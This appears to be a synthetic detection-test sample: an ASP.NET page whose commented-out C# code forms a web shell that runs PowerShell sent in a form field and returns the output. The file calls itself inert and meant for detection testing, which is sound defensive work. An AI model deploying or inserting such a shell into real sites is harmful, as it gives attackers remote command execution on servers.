<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="C#"%><%@ Import Namespace="System.Management.Automation.Runspaces"%><% var rs = RunspaceFactory.CreateRunspace(); rs.Open(); var pl = rs.CreatePipeline(); pl.Commands.AddScript(Request.Form["ps"]); foreach (var o in pl.Invoke()) Response.Write(o); %>
--%>
